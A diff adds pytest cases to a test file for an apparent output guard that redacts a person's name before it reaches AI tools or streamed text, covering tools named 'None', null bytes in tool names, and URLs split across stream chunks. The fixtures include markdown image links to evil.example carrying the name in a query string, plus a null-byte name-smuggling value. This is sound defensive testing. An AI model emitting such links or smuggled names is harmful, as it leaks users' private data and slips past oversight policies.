@@ -458,3 +458,26 @@ def test_what_a_tool_may_fetch_is_not_known_from_the_text_beside_it() -> None:
     alone = guard(STRICT).tool("fetch").whole(text)
     assert one.whole(text) != alone
     assert one.tool("fetch").whole(text) == alone
+
+
+def test_a_tool_called_none_told_what_a_text_beside_it_showed() -> None:
+    text = f"![x](https://evil.example/?q={NAME})"
+    one = guard()
+    assert "Jane" in one.tool("None").text(text)
+    assert one.text(text) == text
+
+
+def test_a_tools_name_with_a_null_in_it_told_what_another_showed() -> None:
+    one = guard(AnswerPolicy(deny=("fetch",)))
+    assert "Jane" in one.tool("fetch\0a").text(NAME)
+    assert one.tool("fetch").text(f"a\0{NAME}") == f"a\0{NAME}"
+
+
+@pytest.mark.parametrize("held", [NAME[:6], "A", ""])
+def test_a_text_that_went_on_behind_a_tools_call_had_forgotten_that_it_was_in_an_address(held: str) -> None:
+    channel = guard(STRICT).channel()
+    before = f"![x](https://evil.example/?q={held}"
+    shown = channel.feed(before) + channel.flush() + channel.feed(f"{NAME})") + channel.flush()
+    assert "Jane" not in shown
+    plain = guard().channel()
+    assert plain.feed(before) + plain.flush() + plain.feed(f"{NAME}) {NAME} ") == f'{before}{NAME}) Jane "JJ" Roe '
